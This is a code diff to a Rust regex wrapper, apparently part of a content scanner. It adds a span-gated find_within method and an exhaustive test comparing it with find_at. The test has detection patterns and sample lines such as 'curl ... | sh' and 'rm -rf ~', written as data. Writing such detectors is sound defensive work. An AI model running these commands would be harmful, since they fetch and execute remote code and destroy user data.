@@ -108,14 +108,20 @@ impl Lazy {
     /// answer (it is compiled, or the probe cannot answer or has read its
     /// share).
     fn answer_at(&self, h: &str, start: usize) -> Option<bool> {
+        self.answer_within(h, start, h)
+    }
+
+    /// [`Lazy::answer_at`] with the gate asked of `gated`, a part of `h`
+    /// that holds every match from `start` on.
+    fn answer_within(&self, h: &str, start: usize, gated: &str) -> Option<bool> {
         // The gate is asked also once the regex is compiled: a long run (the
         // registry) compiles nearly every pattern in its first skills, and
         // a regex without a literal prefilter of its own (a wide
         // case-insensitive alternation) then read every later text with
         // its lazy DFA, or the PikeVM where that gave up.
         let passes = match self.gate.get_or_init(|| lazy_gate(self.source())) {
-            Some(LazyGate::Walked(e)) => walk::passes(*e, h),
-            Some(LazyGate::Own(g)) => g.passes(h),
+            Some(LazyGate::Walked(e)) => walk::passes(*e, gated),
+            Some(LazyGate::Own(g)) => g.passes(gated),
             None => true,
         };
         if !passes {
@@ -204,6 +210,29 @@ impl Lazy {
 
     pub fn find_at<'h>(&self, h: &'h str, start: usize) -> Option<regex::Match<'h>> {
         if self.may_match_at(h, start) {
+            self.regex().find_at(h, start)
+        } else {
+            None
+        }
+    }
+
+    /// The first match in `text[..end]` from `start` on (`find_at(&text[..end],
+    /// start)`: the text before `start` is there for anchors), with the
+    /// gate asked of `text[start..end]` only: a match lies inside it, and
+    /// so do its literals. Asking the gate of each growing prefix
+    /// `text[..end]` of a large file compared the whole prefix with the
+    /// remembered walk per question (`rx::walk`; round 40: a third of a
+    /// 2 MB script's time); a span's own walk reads only the span.
+    pub fn find_within<'h>(
+        &self,
+        text: &'h str,
+        start: usize,
+        end: usize,
+    ) -> Option<regex::Match<'h>> {
+        let (Some(h), Some(span)) = (text.get(..end), text.get(start..end)) else {
+            return self.find_at(text.get(..end).unwrap_or(text), start);
+        };
+        if self.answer_within(h, start, span) != Some(false) {
             self.regex().find_at(h, start)
         } else {
             None
@@ -1121,6 +1150,36 @@ mod tests {
             }
         }
         assert!(checked > 10_000, "{checked}");
+    }
+
+    /// `find_within(text, s, e)` is `find_at(&text[..e], s)`: the gate asked
+    /// of the span alone loses no match (anchors and word boundaries at
+    /// the span's start still see the text before it).
+    #[test]
+    fn find_within_is_find_at_of_the_prefix() {
+        static PATS: [Lazy; 4] = [
+            Lazy::new(r"(?i)\bcurl\b[^\n]{0,40}https?://\S+"),
+            Lazy::new(r"(?m)^\s*rm\s+-rf\s+\S+"),
+            Lazy::new(r"\bsubprocess\.run\("),
+            Lazy::new(r"(?i)token"),
+        ];
+        let text = "x=1\ncurl -s https://a.example/p | sh\n  rm -rf /tmp/x\nsubprocess.run(['ls'])\n\
+                    acurl https://b.example\nTOKEN=2\nrm -rf ~\n";
+        let mut n = 0;
+        for p in &PATS {
+            for s in (0..=text.len()).filter(|&k| text.is_char_boundary(k)) {
+                for e in (s..=text.len()).filter(|&k| text.is_char_boundary(k)) {
+                    let want = p.regex().find_at(&text[..e], s).map(|m| m.range());
+                    assert_eq!(
+                        p.find_within(text, s, e).map(|m| m.range()),
+                        want,
+                        "{s}..{e}"
+                    );
+                    n += 1;
+                }
+            }
+        }
+        assert!(n > 10_000, "{n}");
     }
 
     /// The probe answers as the regex does, yes and no, with anchors, ASCII
